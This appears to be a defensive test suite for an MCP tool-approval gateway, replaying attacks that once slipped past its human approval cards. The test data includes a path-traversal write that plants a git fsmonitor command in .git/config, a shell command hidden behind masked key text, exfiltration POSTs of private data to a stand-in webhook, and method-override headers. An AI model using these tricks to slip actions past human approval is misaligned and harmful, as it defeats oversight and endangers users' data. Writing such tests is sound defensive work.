import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { describe, expect, it } from 'vitest';
import { useChromium } from './support/chromium.js';
import { clickWhenSettled } from './support/console-pointer.js';
import { decide, decideIfAsked, pendingApproval } from './support/pending-approval.js';
import { closeAfterEach, connectClient, serveGateway, type ServedGateway } from './support/serve-gateway.js';

// The attacks that once got past the approver, replayed against `toolgate serve` with the MCP SDK client,
// the console's API and the console in Chromium: each checks the end effect, not only what a function returned.

const UPSTREAM = join(import.meta.dirname, 'fixtures', 'mcp', 'upstream-server.mjs');
const PAYLOAD = '# -----BEGIN PRIVATE KEY-----\n[core]\n\tfsmonitor = "touch PWNED"\n';

const opened = closeAfterEach();

async function serve(config: object, files: Record<string, string> = {}): Promise<ServedGateway> {
  const gateway = await serveGateway({ scope: 'workspace-write', mode: 'ask', ...config }, { files });
  opened.gateway(gateway);
  return gateway;
}

async function client(gateway: ServedGateway): Promise<Client> {
  const connected = await connectClient(gateway.mcpUrl, 'attacker', undefined, gateway.auth);
  opened.client(connected.client);
  return connected.client;
}

function gitRepository(workspace: string): void {
  execFileSync('git', ['init', '-q'], { cwd: workspace });
  mkdirSync(join(workspace, 'src'), { recursive: true });
}

describe('attack: a masked preview hides where a write lands', () => {
  it('the card names the real target .git/config, protected, with why; a rejection leaves it as it was', async () => {
    const gateway = await serve({});
    gitRepository(gateway.workspace);
    const before = readFileSync(join(gateway.workspace, '.git', 'config'), 'utf8');
    const mcp = await client(gateway);
    const call = mcp.callTool({ name: 'write_file', arguments: { path: 'src/api_key=0000/../../.git/config', content: PAYLOAD } });
    const approval = await pendingApproval(gateway, 'write_file');

    const file = approval.target?.files[0];
    expect(file?.path).toBe('.git/config');
    expect(file?.flags).toContain('protected');
    expect(file?.requested).toBe('src/api_key=[redacted]/../../.git/config');
    expect(approval.preview.path).toBe('.git/config');
    expect(approval.reasons).toMatchObject({ reason: 'protected_path', protectedPath: true, mode: 'ask' });
    // The diff names the real file, and the payload's structure is in plain view: only the armour line is masked.
    expect(approval.diff).toContain('.git/config');
    expect(approval.diff).toContain('fsmonitor = "touch PWNED"');
    expect(approval.diff).toContain('[core]');
    expect(approval.masked).toBeGreaterThan(0);

    await decide(gateway, approval.id, 'reject');
    expect((await call).isError).toBe(true);
    expect(readFileSync(join(gateway.workspace, '.git', 'config'), 'utf8')).toBe(before);
  });

  it('an approved write lands where the card said, and the receipt records the real target', async () => {
    const gateway = await serve({});
    gitRepository(gateway.workspace);
    const mcp = await client(gateway);
    const call = mcp.callTool({ name: 'write_file', arguments: { path: 'src/api_key=0000/../../.git/config', content: '[core]\n\tbare = false\n' } });
    const approval = await pendingApproval(gateway, 'write_file');
    await decide(gateway, approval.id, 'once');
    expect((await call).isError).not.toBe(true);
    expect(readFileSync(join(gateway.workspace, '.git', 'config'), 'utf8')).toBe('[core]\n\tbare = false\n');
    expect(existsSync(join(gateway.workspace, 'src', 'api_key=0000'))).toBe(false);
    const receipts = (await gateway.api('/api/receipts?tool=write_file')).body as { target?: { files: { path: string; flags: string[] }[] }; affectedEntities: string[] }[];
    const receipt = receipts.find((entry) => entry.target !== undefined);
    expect(receipt?.target?.files[0]).toMatchObject({ path: '.git/config', flags: expect.arrayContaining(['protected']) as unknown });
    expect(receipt?.affectedEntities).toContain('.git/config');
  });
});

describe('attack: a masked command word hides what runs', () => {
  it('the card shows the whole argv, the payload after the key armour included; a rejection runs nothing', async () => {
    const argv = ['sh', '-c', 'echo -----BEGIN PRIVATE KEY----- >/dev/null; touch PWNED'];
    const gateway = await serve({ policy: { allowedCommands: [argv] } });
    const mcp = await client(gateway);
    const call = mcp.callTool({ name: 'run_command', arguments: { command: argv } });
    const approval = await pendingApproval(gateway, 'run_command');
    expect(approval.target?.command?.argv).toHaveLength(3);
    expect(approval.target?.command?.argv[2]).toContain('>/dev/null; touch PWNED');
    expect(approval.preview.command).toContain("'echo [redacted] >/dev/null; touch PWNED'");
    await decide(gateway, approval.id, 'reject');
    expect((await call).isError).toBe(true);
    expect(existsSync(join(gateway.workspace, 'PWNED'))).toBe(false);
  });
});

describe('attack: a card leaves out what the decision covers', () => {
  it('mcp_call shows server, tool and arguments; http_request the method and full URL; edit_file replaceAll; a rule its text and source', async () => {
    const gateway = await serve(
      {
        servers: { up: { command: process.execPath, args: [UPSTREAM] } },
        policy: { allowedDomains: ['api.github.com'], ask: ['Edit(./notes.md)'] },
      },
      { 'notes.md': 'one one\n' },
    );
    const mcp = await client(gateway);
    const calls = [
      mcp.callTool({ name: 'mcp_call', arguments: { server: 'up', tool: 'add', arguments: { a: 2, b: 40 } } }),
      mcp.callTool({ name: 'http_request', arguments: { method: 'DELETE', url: 'https://api.github.com/repos/me/prod?force=true' } }),
      mcp.callTool({ name: 'edit_file', arguments: { path: 'notes.md', oldText: 'one', newText: 'two', replaceAll: true } }),
    ];
    const upstream = await pendingApproval(gateway, 'mcp_call');
    expect(upstream.target?.mcp).toMatchObject({ server: 'up', tool: 'add' });
    expect(JSON.parse(upstream.target?.mcp?.arguments ?? 'null')).toEqual({ a: 2, b: 40 });
    const request = await pendingApproval(gateway, 'http_request');
    expect(request.target?.http).toMatchObject({ method: 'DELETE', url: 'https://api.github.com/repos/me/prod?force=true' });
    expect(request.preview.request).toBe('DELETE https://api.github.com/repos/me/prod?force=true');
    const edit = await pendingApproval(gateway, 'edit_file');
    expect(edit.view?.subtitle).toContain('replaceAll: every occurrence');
    expect(edit.reasons.reason).toBe('rule');
    expect(edit.reasons.rules).toContainEqual(expect.objectContaining({ rule: 'Edit(./notes.md)', source: 'project' }));
    for (const approval of [upstream, request, edit]) await decide(gateway, approval.id, 'reject');
    await Promise.allSettled(calls);
    expect(readFileSync(join(gateway.workspace, 'notes.md'), 'utf8')).toBe('one one\n');
  });
});

describe('attack: a remembered approval is wider than what was seen', () => {
  it('approving GET /status for the session does not approve DELETE /repos/me/prod on the same host', async () => {
    const gateway = await serve({ policy: { allowedDomains: ['api.github.com'] } });
    const mcp = await client(gateway);
    const status = mcp.callTool({ name: 'http_request', arguments: { method: 'GET', url: 'https://api.github.com/status' } });
    await decide(gateway, (await pendingApproval(gateway, 'http_request')).id, 'session');
    await status;
    const destructive = mcp.callTool({ name: 'http_request', arguments: { method: 'DELETE', url: 'https://api.github.com/repos/me/prod?force=true' } });
    const asked = await pendingApproval(gateway, 'http_request');
    expect(asked.target?.http?.method).toBe('DELETE');
    await decide(gateway, asked.id, 'reject');
    expect((await destructive).isError).toBe(true);
    // The same request that was approved is remembered; nothing else is.
    await mcp.callTool({ name: 'http_request', arguments: { method: 'GET', url: 'https://api.github.com/status' } });
    const receipts = (await gateway.api('/api/receipts?tool=http_request')).body as { approval: { how?: string }; target?: { http?: { method: string } } }[];
    expect(receipts.filter((receipt) => receipt.approval.how === 'confirm:remembered').map((receipt) => receipt.target?.http?.method)).toEqual(['GET']);
  });
});

describe('attack: a session approval of a request with a body stands in for any body', () => {
  it('approving a POST of a build note for the session does not send the workspace\'s private data in the next POST to the same URL unseen', async () => {
    const gateway = await serve({ policy: { allowedDomains: ['hooks.example.com'] } });
    const mcp = await client(gateway);
    const url = 'https://hooks.example.com/services/build';
    const note = mcp.callTool({ name: 'http_request', arguments: { method: 'POST', url, body: 'build 41 finished' } });
    await decide(gateway, (await pendingApproval(gateway, 'http_request')).id, 'session');
    await note;
    for (const args of [
      // What leaves is the workspace's private data, in no shape a redaction pattern knows: nothing on the card is masked.
      { method: 'POST', url, body: 'customers: alice@acme.example 4111-plan, bob@acme.example' },
      { method: 'POST', url, body: 'build 41 finished', headers: { 'X-Note': 'merger with globex closes 2027-07-01' } },
      { method: 'PUT', url, body: 'build 41 finished' },
    ]) {
      const exfiltrate = mcp.callTool({ name: 'http_request', arguments: args });
      const asked = await pendingApproval(gateway, 'http_request');
      expect(asked.target?.http?.method).toBe(args.method);
      await decide(gateway, asked.id, 'reject');
      expect((await exfiltrate).isError).toBe(true);
    }
    // The identical request is the one remembered.
    await mcp.callTool({ name: 'http_request', arguments: { method: 'POST', url, body: 'build 41 finished' } });
    const receipts = (await gateway.api('/api/receipts?tool=http_request')).body as { approval: { how?: string } }[];
    expect(receipts.filter((receipt) => receipt.approval.how === 'confirm:remembered')).toHaveLength(1);
  });
});

describe('attack: a header turns the approved method into another', () => {
  it('approving GET /repos/me/prod for the session does not let a method-override header make it a DELETE: the override never leaves', async () => {
    const gateway = await serve({ policy: { allowedDomains: ['api.github.com'] } });
    const mcp = await client(gateway);
    const read = mcp.callTool({ name: 'http_request', arguments: { method: 'GET', url: 'https://api.github.com/repos/me/prod' } });
    await decide(gateway, (await pendingApproval(gateway, 'http_request')).id, 'session');
    await read;
    // Frameworks that honour these act on the method they name, whatever the request line says.
    // Another header is another request: the person is asked, and even an approval does not let the override leave.
    for (const name of ['X-HTTP-Method-Override', 'x-http-method', 'X-Method-Override']) {
      const overridden = await decideIfAsked(gateway, mcp, 'http_request', { method: 'GET', url: 'https://api.github.com/repos/me/prod', headers: { [name]: 'DELETE' } }, 'once');
      expect(overridden.card, name).toBeDefined();
      expect((overridden.result as { isError?: boolean }).isError).toBe(true);
      expect(JSON.stringify((overridden.result as { content?: unknown }).content)).toContain('a request header is not allowed');
    }
  });
});

describe('attack: a header the card leaves out changes what the request does', () => {
  it('a PUT whose x-amz-acl header makes the object public shows its headers on the card', async () => {
    const gateway = await serve({ policy: { allowedDomains: ['bucket.s3.amazonaws.com'] } });
    const mcp = await client(gateway);
    const call = mcp.callTool({ name: 'http_request', arguments: { method: 'PUT', url: 'https://bucket.s3.amazonaws.com/reports/q3.csv', headers: { 'x-amz-acl': 'public-read', Authorization: 'Bearer ghp_abcdefghijklmnopqrstuvwxyz0123456789' }, body: 'id,total\n' } });
    const card = await pendingApproval(gateway, 'http_request');
    expect(card.view?.subtitle).toContain('"x-amz-acl":"public-read"');
    // Shown, and masked where it is a credential.
    expect(card.view?.subtitle).toContain('"Authorization":"Bearer [redacted]"');
    expect(JSON.stringify(card)).not.toContain('ghp_abcdefghijklmnopqrstuvwxyz0123456789');
    await decide(gateway, card.id, 'reject');
    expect((await call).isError).toBe(true);
  });
});

describe('attack, in the browser: the card a person reads', () => {
  const browser = useChromium();

  it('shows .git/config, the protected badge, the spelling it was requested as, and why it asks', async () => {
    const gateway = await serve({});
    gitRepository(gateway.workspace);
    const mcp = await client(gateway);
    const call = mcp.callTool({ name: 'write_file', arguments: { path: 'src/api_key=0000/../../.git/config', content: PAYLOAD } });
    const page = await browser().newPage();
    await page.goto(String(gateway.consoleUrl));
    await page.getByRole('button', { name: /Approvals/ }).click();
    const card = page.locator('[data-approval]');
    await card.waitFor({ timeout: 20_000 });
    const text = (await card.textContent()) ?? '';
    expect(text).toContain('.git/config');
    expect(text).toContain('src/api_key=[redacted]/../../.git/config');
    expect(text.toLowerCase()).toContain('protected');
    expect(text).toMatch(/masked/);
    expect(text).toContain('fsmonitor');
    mkdirSync('test-results/console', { recursive: true });
    await page.screenshot({ path: 'test-results/console/attack-git-config-card.png', fullPage: true });
    await clickWhenSettled(card.getByRole('button', { name: /Reject/ }));
    expect((await call).isError).toBe(true);
    expect(existsSync(join(gateway.workspace, 'PWNED'))).toBe(false);
    expect(readFileSync(join(gateway.workspace, '.git', 'config'), 'utf8')).not.toContain('fsmonitor');
    await page.close();
  });
});
